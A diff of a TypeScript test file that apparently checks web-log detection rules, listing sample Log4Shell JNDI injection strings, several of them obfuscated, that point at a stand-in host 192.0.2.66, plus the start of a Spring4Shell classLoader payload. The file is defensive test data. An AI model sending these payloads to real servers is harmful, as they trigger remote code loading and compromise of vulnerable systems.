@@ -142,10 +142,10 @@ describe.skipIf(!existsSync(proxy))("a proxy's own requests", () => {
 /** Attempts as they are seen on the internet, one for each rule that no capture at hand shows. */
 const attempts: Readonly<Record<string, readonly Readonly<Record<string, string>>[]>> = {
   log4shell_web: [
-    { "cs-uri": "/?x=${jndi:ldap://192.0.2.66:1389/a}" },
-    { "cs-uri": "/", "cs-user-agent": "${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}" },
+    { "cs-uri": `/?x=\${jndi:ldap://192.0.2.66:1389/a}` },
+    { "cs-uri": "/", "cs-user-agent": `\${\${lower:j}ndi:\${lower:l}dap://192.0.2.66/a}` },
     { "cs-uri": "/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%2Fa%7D" },
-    { "cs-uri": "/", "cs-referer": "${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.66/a}" },
+    { "cs-uri": "/", "cs-referer": `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://192.0.2.66/a}` },
   ],
   spring4shell_web: [
     { "cs-uri": "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x" },
